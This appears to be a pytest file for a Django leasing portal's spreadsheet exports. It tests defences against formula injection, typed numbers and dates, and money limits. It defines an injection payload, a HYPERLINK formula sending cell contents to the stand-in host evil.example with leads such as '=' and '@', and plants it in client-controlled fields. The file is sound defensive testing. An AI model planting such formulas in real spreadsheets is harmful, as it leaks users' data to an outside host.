"""The one spreadsheet writer (`kabinet.core.xlsx`): nothing else imports openpyxl; text that starts like
a formula stays text with its value unchanged; numbers stay numbers, dates dates; money at the limit of
15 significant digits comes back exactly; and every export of the portal, fed values that start like a
formula in every field a client or the API controls, holds no formula."""

from __future__ import annotations

import ast
from datetime import date, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.test import Client
from django.utils import timezone, translation

from kabinet.api.models import ApiToken
from kabinet.appeals import services as appeal_services
from kabinet.audit.models import AuditEvent
from kabinet.contracts.models import Contract
from kabinet.contracts.services import payments_record
from kabinet.core.money import MONEY_MAX
from kabinet.core.xlsx import Cell, Column, Spreadsheet, read_workbook, xlsx_response
from kabinet.documents.models import Document
from kabinet.notifications.models import Notification
from kabinet.support import services as support_services
from kabinet.testing.factories import ContractFactory, ScheduledPaymentFactory

ROOT = Path(__file__).resolve().parents[3]
WRITER = ROOT / "kabinet" / "core" / "xlsx.py"
LEADS = ["=", "+", "-", "@", "\t", "\r"]
LINK = 'HYPERLINK("http://evil.example/?"&A1,"click")'


def imports_openpyxl(path: Path) -> bool:
    for node in ast.walk(ast.parse(path.read_text())):
        if isinstance(node, ast.Import) and any(a.name.split(".")[0] == "openpyxl" for a in node.names):
            return True
        if isinstance(node, ast.ImportFrom) and (node.module or "").split(".")[0] == "openpyxl":
            return True
    return False


def test_only_the_writer_imports_openpyxl():
    """Every spreadsheet goes through one writer (tests read files back through it too)."""
    sources = [
        path
        for folder in ("kabinet", "config", "e2e", "bench")
        if (ROOT / folder).is_dir()
        for path in (ROOT / folder).rglob("*.py")
    ]
    assert WRITER in sources
    offenders = [str(path.relative_to(ROOT)) for path in sources if path != WRITER and imports_openpyxl(path)]
    assert offenders == []


def test_the_import_check_sees_an_import(tmp_path):
    module = tmp_path / "m.py"
    module.write_text("def f():\n    from openpyxl.styles import Font\n")
    assert imports_openpyxl(module)
    module.write_text("import openpyxl_like\n")
    assert not imports_openpyxl(module)


@pytest.mark.parametrize("lead", LEADS, ids=repr)
def test_text_that_starts_like_a_formula_is_text_with_its_value_unchanged(lead):
    book = Spreadsheet()
    sheet = book.sheet("T")
    value = lead + LINK
    sheet.row(value, Cell(value, "money"), Cell(value, "date"), "#N/A")
    cells = read_workbook(book.content()).active[1]
    expected = "\n" + LINK if lead == "\r" else value  # XML reads a bare CR as a line break
    assert [(c.value, c.data_type) for c in cells] == [(expected, "s")] * 3 + [("#N/A", "s")]


def test_numbers_stay_numbers_and_dates_stay_dates():
    book = Spreadsheet()
    sheet = book.sheet("T")
    sheet.row(
        Cell(Decimal("-12.50"), "money"),
        Cell(7, "int"),
        Cell(Decimal("22"), "number"),
        Cell(date(2027, 2, 10), "date"),
        Cell(timezone.make_aware(datetime(2027, 2, 10, 9, 30)), "datetime"),
    )
    cells = read_workbook(book.content()).active[1]
    assert [c.data_type for c in cells] == ["n", "n", "n", "d", "d"]
    assert [c.value for c in cells] == [-12.5, 7, 22, datetime(2027, 2, 10), datetime(2027, 2, 10, 9, 30)]
    assert [c.number_format for c in cells[:1] + cells[3:]] == ["#,##0.00", "DD.MM.YYYY", "DD.MM.YYYY HH:MM"]


@pytest.mark.parametrize(
    "amount", [MONEY_MAX, Decimal("9999999999999.99"), -MONEY_MAX, Decimal("1234567890123.45"), Decimal("0.01")]
)
def test_money_at_the_limit_comes_back_exactly(amount):
    """15 significant digits: a double holds every such amount, and the cell gives it back to the kopeck."""
    book = Spreadsheet()
    book.sheet("T").row(Cell(amount, "money"))
    cell = read_workbook(book.content()).active["A1"]
    assert cell.data_type == "n" and cell.number_format == "#,##0.00"
    assert Decimal(str(cell.value)).quantize(Decimal("0.01")) == amount


def test_a_list_has_an_autofilter_on_its_header_row(db):
    columns = [Column("Имя"), Column("Сумма", "money")]
    response = xlsx_response(filename="x.xlsx", heading="Список", columns=columns, rows=[("a", 1), ("b", 2)])
    sheet = read_workbook(response.getvalue()).active
    assert sheet.auto_filter.ref == "A2:B4" and sheet.freeze_panes == "A3"


# Every field a client or the API controls, each starting like a formula.
def planted(n: int) -> str:
    return LEADS[n % len(LEADS)] + LINK + f" #{n}"


@pytest.fixture
def poisoned(org_a, admin_a, products, creditor, staff):
    """One of everything every export shows, with text written by a client or the books (API) that
    starts like a formula."""
    org_a.name = planted(1)
    org_a.full_name = planted(2)
    org_a.legal_address = planted(3)
    org_a.director = planted(4)
    org_a.save()
    products["auto"].name = planted(5)
    products["auto"].save()
    contract = ContractFactory(
        organization=org_a, product=products["auto"], number=planted(6)[:60], external_id="C-INJ"
    )
    today = timezone.localdate()
    past = ScheduledPaymentFactory(contract=contract, number=1, due_date=today - timedelta(days=20))
    ScheduledPaymentFactory(contract=contract, number=2, due_date=today + timedelta(days=20))
    payments_record(
        rows=[
            {
                "external_id": "P-INJ",
                "contract": contract,
                "received_on": today - timedelta(days=10),
                "amount": Decimal("1000.00"),
                "document_number": planted(7)[:60],
                "allocations": [{"number": past.number, "amount": Decimal("1000.00")}],
            }
        ]
    )
    appeal = appeal_services.appeal_create(
        org=org_a,
        user=admin_a,
        data=appeal_services.AppealInput(kind="new_leasing", description=planted(8)),
    )
    for direction, n in ((Document.Direction.INCOMING, 9), (Document.Direction.UPLOADED, 12)):
        doc = Document(
            organization=org_a,
            direction=direction,
            doc_type=planted(n),
            title=planted(n + 1),
            original_name=planted(n + 2),
            document_date=today,
            contract=contract,
            appeal=appeal,
            product=products["auto"],
        )
        doc.file.save("x.pdf", ContentFile(b"%PDF-1.4"), save=False)
        doc.save()
    Notification.objects.create(
        organization=org_a, user=admin_a, kind="new_document", title=planted(15), body=planted(16)
    )
    support_services.thread_create(org=org_a, user=admin_a, topic=planted(17), body=planted(18), files=[])
    admin_a.full_name = planted(19)
    admin_a.save()
    AuditEvent.objects.create(
        organization=org_a,
        actor=admin_a,
        actor_kind=AuditEvent.ActorKind.USER,
        action="organization_updated",
        object_type="organizations.organization",
        object_repr=planted(20),
        before={"director": "Иванов"},
        after={"director": planted(21)},
    )
    return contract


def cells_of(content: bytes):
    workbook = read_workbook(content)
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def test_no_export_holds_a_formula_whatever_the_clients_and_the_books_wrote(client_a, poisoned):
    contract: Contract = poisoned
    today = timezone.localdate()
    files = {}
    for url in (
        "/contracts/export.xlsx",
        "/calendar/export.xlsx",
        "/debt/export.xlsx",
        "/documents/export.xlsx",
        "/documents/uploaded/export.xlsx",
        "/requests/export.xlsx",
        "/notifications/export.xlsx",
        "/settings/history/export.xlsx",
        "/support/export.xlsx",
        "/invoices/export.xlsx",
    ):
        response = client_a.get(url)
        assert response.status_code == 200, url
        files[url] = b"".join(response.streaming_content)
    schedule = client_a.get(f"/contracts/{contract.pk}/schedule.xlsx")
    files["schedule"] = schedule.content
    statement = client_a.post(
        "/statements/",
        {"date_from": f"{today.year - 1}-01-01", "date_to": today.isoformat(), "contract": "", "format": "xlsx"},
    )
    assert statement.status_code == 200 and statement["Content-Type"].startswith("application/vnd.openxml")
    files["statement"] = statement.content

    every_text = set()
    for name, content in files.items():
        cells = cells_of(content)
        assert cells, name
        assert [c.coordinate for c in cells if c.data_type == "f"] == [], name
        for cell in cells:
            if isinstance(cell.value, str):
                assert cell.data_type == "s", (name, cell.coordinate)
                every_text.add(cell.value)
    shown = "\n".join(every_text)
    for n in range(1, 22):
        text = planted(n).replace("\r", "\n")
        assert text[:60] in shown, n  # each value arrived, unchanged (some inside a longer sentence)
    # The values written alone in a cell are there exactly as typed.
    for n in (8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18):
        assert planted(n).replace("\r", "\n") in every_text, n


# One money limit: the model fields, their back-office form fields and the API.
TOO_BIG = "10000000000000.00"  # 16 significant digits: a spreadsheet would change it


def test_a_money_form_field_refuses_more_than_the_limit_in_russian():
    field = Contract._meta.get_field("amount").formfield()
    assert field.clean("9999999999999.99") == Decimal("9999999999999.99")
    with translation.override("ru"), pytest.raises(ValidationError) as refused:
        field.clean(TOO_BIG)
    assert any("Убедитесь" in message for message in refused.value.messages)


def test_a_money_model_field_refuses_more_than_the_limit(org_a, products):
    contract = ContractFactory.build(organization=org_a, product=products["auto"], amount=Decimal(TOO_BIG))
    with pytest.raises(ValidationError) as refused:
        contract.full_clean()
    assert "amount" in refused.value.message_dict


def test_the_api_refuses_more_than_the_limit_naming_the_field(org_a, products):
    _, key = ApiToken.issue(name="1C", staff_wide=True, can_read=True, can_write=True)
    api = Client(HTTP_AUTHORIZATION=f"Bearer {key}")
    ContractFactory(organization=org_a, product=products["auto"], number="BIG", external_id="BIG")
    row = {"number": 1, "due_date": "2030-01-10", "amount": TOO_BIG, "vat_rate": "22"}
    response = api.put("/api/v1/contracts/BIG/schedule/", {"payments": [row]}, content_type="application/json")
    assert response.status_code == 400 and "amount" in str(response.json())
    row["amount"] = "9999999999999.99"
    response = api.put("/api/v1/contracts/BIG/schedule/", {"payments": [row]}, content_type="application/json")
    assert response.status_code == 200
